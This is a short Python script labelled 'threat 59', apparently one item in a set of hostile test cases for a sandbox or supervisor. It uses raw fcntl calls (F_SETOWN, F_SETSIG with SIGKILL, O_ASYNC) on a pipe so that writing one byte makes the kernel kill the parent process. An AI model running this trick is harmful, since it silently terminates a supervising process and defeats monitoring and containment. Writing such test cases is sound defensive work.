# threat 59: lets the kernel kill the parent when a pipe moves (F_SETOWN, F_SETSIG)
# needs: standard
import os

try:
    reader, writer = os.pipe()
    import ctypes
    libc = ctypes.CDLL(None)
    libc.fcntl(reader, 8, os.getppid())
    libc.fcntl(reader, 10, 9)
    libc.fcntl(reader, 4, 0o20000)
    os.write(writer, b"x")
except OSError:
    pass
